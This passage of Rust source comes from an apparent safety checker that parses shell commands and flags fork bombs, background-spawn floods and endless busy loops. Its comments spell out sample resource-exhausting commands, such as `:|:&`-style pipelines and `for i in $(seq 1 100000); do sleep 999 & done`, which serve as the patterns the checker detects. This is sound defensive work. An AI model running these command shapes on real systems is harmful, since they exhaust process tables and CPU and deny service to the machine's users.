/// Arithmetic nodes, which may assign (`x++`, `y = 2`).
fn is_arithmetic(kind: &str) -> bool {
    matches!(
        kind,
        "binary_expression"
            | "unary_expression"
            | "postfix_expression"
            | "parenthesized_expression"
            | "ternary_expression"
            | "arithmetic_expansion"
    )
}

/// True when a function body puts work in the background or in a pipeline (`:|:&`).
pub(crate) fn spawns_in_background(node: Node<'_>) -> bool {
    any_node(node, true, |n| n.kind() == "pipeline" || n.kind() == "&")
}

/// True when `pred` holds for `node` or a node below it. Iterative and bounded: past 10,000
/// nodes the answer is `overflow` (the caller's fail-closed choice).
pub(crate) fn any_node(node: Node<'_>, overflow: bool, pred: impl Fn(Node<'_>) -> bool) -> bool {
    let mut stack = vec![node];
    let mut seen = 0;
    // One cursor for the whole search: `children` resets it to each node.
    let mut cursor = node.walk();
    while let Some(n) = stack.pop() {
        seen += 1;
        if seen > 10_000 {
            return overflow;
        }
        if pred(n) {
            return true;
        }
        stack.extend(n.children(&mut cursor));
    }
    false
}

/// The body of an unconditional loop (`while :`, `while true`, `while [ 1 ]`, `while ((1))`,
/// `until false`); `None` for any other loop.
fn endless_body<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
    // `for ((;;))` (or any C-style loop without a condition) never stops by itself.
    if node.kind() == "c_style_for_statement" {
        return node
            .child_by_field_name("condition")
            .is_none()
            .then(|| node.child_by_field_name("body"))
            .flatten();
    }
    let condition = node.child_by_field_name("condition")?;
    let keyword = node.child(0).map_or("", |k| text(k, src));
    let cond = text(condition, src).trim().trim_end_matches(';').trim();
    let forever = match keyword {
        "while" => matches!(cond, ":" | "true" | "[ 1 ]" | "((1))"),
        "until" => cond == "false",
        _ => false,
    };
    forever.then(|| node.child_by_field_name("body")).flatten()
}

/// `while :; do cmd & done` / `while true; do …& done`: an unconditional loop that starts
/// a background process on every turn, with nothing in the body that waits, is a fork bomb
/// whatever it starts. (`until false` is the same loop.)
fn infinite_background_loop(node: Node<'_>, src: &str) -> bool {
    endless_body(node, src)
        .is_some_and(|body| has_background_job(body) && !waits_in_foreground(body, src))
}

/// Turns of a counted loop past which starting a background job on each one exhausts the
/// process table (a typical per-user limit is a few thousand to tens of thousands).
const SPAWN_FLOOD_TURNS: u64 = 1000;

/// `for i in $(seq 1 100000); do sleep 999 & done`, `for i in {1..50000}`, `for ((i=0;
/// i<1e5; i++))`: a loop whose literal count is at least [`SPAWN_FLOOD_TURNS`] and whose
/// body starts a background job that nothing in the body waits for. Small counts (`seq 4`:
/// a few parallel workers) are ordinary.
///
/// The loop's count is read first: it looks at the loop's own children only, while the
/// background-job search walks the whole body, and nearly every loop an agent writes has a
/// small or unknown count (all three tests are pure, so the order does not change the answer).
fn spawn_flood(node: Node<'_>, src: &str) -> bool {
    node.child_by_field_name("body").is_some_and(|body| {
        literal_turns(node, src).is_some_and(|n| n >= SPAWN_FLOOD_TURNS)
            && has_background_job(body)
            && !waits_in_foreground(body, src)
    })
}

/// A `sleep`/`wait`/`read` that the body runs in the foreground (a backgrounded `sleep 999 &`
/// paces nothing).
fn waits_in_foreground(body: Node<'_>, src: &str) -> bool {
    let mut cursor = body.walk();
    let children: Vec<Node<'_>> = body.children(&mut cursor).collect();
    children.iter().enumerate().any(|(i, child)| {
        let background = children.get(i + 1).is_some_and(|n| n.kind() == "&");
        child.is_named() && !background && !has_background_job(*child) && waits(*child, src)
    })
}

/// How many times a `for` loop with literal bounds turns: `in $(seq [FIRST [STEP]] LAST)`,
/// `in {A..B[..S]}`, `((i=A; i<B; …))`, or a list of words. `None` when not literal.
fn literal_turns(node: Node<'_>, src: &str) -> Option<u64> {
    let span = |first: i128, step: i128, last: i128| -> Option<u64> {
        if step == 0 {
            return None;
        }
        u64::try_from((last - first) / step + 1).ok()
    };
    let num = |t: &str| t.trim().parse::<i128>().ok();
    if node.kind() == "c_style_for_statement" {
        let bound = text(node.child_by_field_name("condition")?, src);
        let (var_and_op, limit) = bound.split_once('<')?;
        let limit = num(limit.trim_start_matches('='))?;
        let start = node
            .child_by_field_name("initializer")
            .and_then(|i| text(i, src).split_once('=').and_then(|(_, v)| num(v)))
            .unwrap_or(0);
        return (!var_and_op.trim().is_empty())
            .then(|| span(start, 1, limit - 1))
            .flatten();
    }
    let mut cursor = node.walk();
    let values: Vec<Node<'_>> = node.children_by_field_name("value", &mut cursor).collect();
    let [one] = values.as_slice() else {
        return u64::try_from(values.len()).ok().filter(|n| *n > 0);
    };
    let t = text(*one, src);
    if let Some(inner) = t
        .strip_prefix("$(")
        .and_then(|r| r.strip_suffix(')'))
        .or_else(|| t.strip_prefix('`').and_then(|r| r.strip_suffix('`')))
    {
        let mut words = inner.split_whitespace();
        if words.next() != Some("seq") {
            return None;
        }
        let nums: Option<Vec<i128>> = words.map(num).collect();
        return match nums?.as_slice() {
            [last] => span(1, 1, *last),
            [first, last] => span(*first, 1, *last),
            [first, step, last] => span(*first, *step, *last),
            _ => None,
        };
    }
    let range = t.strip_prefix('{')?.strip_suffix('}')?;
    let parts: Option<Vec<i128>> = range.split("..").map(num).collect();
    match parts?.as_slice() {
        [first, last] => span(*first, if last < first { -1 } else { 1 }, *last),
        [first, last, step] => span(
            *first,
            if last < first {
                -step.abs()
            } else {
                step.abs()
            },
            *last,
        ),
        _ => None,
    }
}

/// `while :; do :; done`, `until false; do echo x; done`: an unconditional loop whose body
/// only runs no-op builtins (nothing that waits, forks, or leaves the loop) spins a core for
/// ever.
fn busy_loop(node: Node<'_>, src: &str) -> bool {
    const NOOPS: &[&str] = &[":", "true", "false", "echo", "printf", "let", "test", "["];
    let Some(body) = endless_body(node, src) else {
        return false;
    };
    !any_node(body, true, |n| match n.kind() {
        "command_name" => !NOOPS.contains(&text(n, src)),
        // Redirections to files, substitutions, pipelines and nested control all do
        // more than spin (or are judged on their own).
        "command_substitution"
        | "process_substitution"
        | "pipeline"
        | "file_redirect"
        | "heredoc_redirect"
        | "herestring_redirect"
        | "&" => true,
        _ => false,
    })
}

/// A command ending in `&` somewhere in `node`.
fn has_background_job(node: Node<'_>) -> bool {
    // By id, as `block` tells a background statement: `kind()` converts the name each time.
    let amp = kind_ids().ampersand;
    any_node(node, false, |n| {
        if amp == 0 {
            n.kind() == "&"
        } else {
            n.kind_id() == amp
        }
    })
}

/// A `sleep`/`wait`/`read` in the body paces the loop.
fn waits(node: Node<'_>, src: &str) -> bool {
    any_node(node, true, |n| {
        n.kind() == "command_name" && matches!(text(n, src), "sleep" | "wait" | "read")
    })
}

/// `<<-` strips leading tabs from body lines.
fn strip_heredoc_tabs(body: &str, redirect: &str) -> String {
    if redirect.starts_with("<<-") {
        body.lines()
            .map(|l| l.trim_start_matches('\t'))
            .collect::<Vec<_>>()
            .join("\n")
    } else {
        body.to_owned()
    }
}

/// Unquoted text: backslash escapes, globs, `~`, brace expansion.
fn unquoted_word(raw: &str, first: bool, ctx: &Context, scope: &Scope, w: &mut Word) {
    let mut chars = raw.chars().peekable();
    let mut at_start = first;
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\n') | None => {}
                Some(e) => w.text.push(e),
            },
            '~' if at_start => {
                // The tilde prefix runs to the first `/`: `~` is $HOME, `~+` $PWD, `~-`
                // $OLDPWD; `~user` and anything else are not known here.
                let rest: String = chars.clone().take_while(|c| *c != '/').collect();
                let value = match rest.as_str() {
                    "" => crate::resolve::lookup("HOME", ctx, scope),
                    "+" => crate::resolve::lookup("PWD", ctx, scope),
                    "-" => crate::resolve::lookup("OLDPWD", ctx, scope),
                    _ => None,
                };
                if let Some(v) = value {
                    w.text.push_str(&v);
                    for _ in 0..rest.chars().count() {
                        chars.next();
                    }
                } else {
                    w.text.push('~');
                    w.exact = false;
                }
            }
            '*' | '?' | '[' => {
                w.text.push(c);
                if w.shape == WordShape::Exact {
                    w.shape = WordShape::Glob;
                }
            }
            _ => w.text.push(c),
        }
        at_start = false;
    }
}

/// The name in `$X`/`${X…}` (`@`, `*`, `1` for the special ones).
///
/// The name is nearly always the first named child (`$f`, `${f}`, `${#f}`, `${f:-x}`), which
/// is read without a cursor (a cursor allocates); both kinds are named, so a first named
/// child of either kind is also the first child of either kind. Otherwise every child is
/// searched, as before.
pub(crate) fn expansion_name<'s>(node: Node<'_>, src: &'s str) -> Option<&'s str> {
    if let Some(first) = node.named_child(0)
        && matches!(first.kind(), "variable_name" | "special_variable_name")
    {
        return Some(text(first, src));
    }
    let mut cursor = node.walk();
    node.children(&mut cursor)
        .find(|c| matches!(c.kind(), "variable_name" | "special_variable_name"))
        .map(|c| text(c, src))
}

/// `$X` or `${X}` with no operator.
fn is_plain_expansion(node: Node<'_>) -> bool {
    node.kind() == "simple_expansion" || node.child_count() == 3
}

/// `"${a[@]}"`: a double-quoted string made of nothing but one expansion of a known array's
/// elements; its elements, one field each.
fn quoted_array<'s>(node: Node<'_>, src: &str, scope: &'s Scope) -> Option<&'s [String]> {
    if node.kind() != "string" || node.named_child_count() != 1 {
        return None;
    }
    let inner = node.named_child(0)?;
    let raw = text(inner, src);
    (inner.kind() == "expansion" && text(node, src).len() == raw.len() + 2)
        .then(|| crate::resolve::array_elements(inner, src, scope))
        .flatten()
}

/// `"$@"`: a double-quoted string made of nothing but `$@`/`${@}`.
fn is_quoted_at(node: Node<'_>, src: &str) -> bool {
    let raw = text(node, src);
    raw == "\"$@\"" || raw == "\"${@}\""
}

/// Inside double quotes only `\$ \` \" \\` and `\<newline>` are escapes.
fn unescape_double(raw: &str) -> String {
    unescape(raw, true)
}

/// In an unquoted heredoc body only `\$ \` \\` and `\<newline>` are escapes (`\"` stays).
fn unescape_heredoc(raw: &str) -> String {
    unescape(raw, false)
}

fn unescape(raw: &str, double_quote: bool) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some(e @ ('$' | '`' | '\\')) => out.push(e),
                Some('"') if double_quote => out.push('"'),
                Some('\n') => {}
                Some(e) => {
                    out.push('\\');
                    out.push(e);
                }
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    out
}
